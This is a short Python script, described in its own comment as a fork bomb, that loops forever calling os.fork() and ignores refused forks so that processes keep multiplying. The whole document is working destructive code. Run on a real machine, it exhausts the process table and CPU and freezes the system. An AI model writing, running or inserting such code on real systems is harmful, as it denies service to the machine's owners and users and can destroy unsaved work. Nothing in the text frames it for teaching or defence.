# A fork bomb that shrugs off refused forks and keeps every process spinning.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
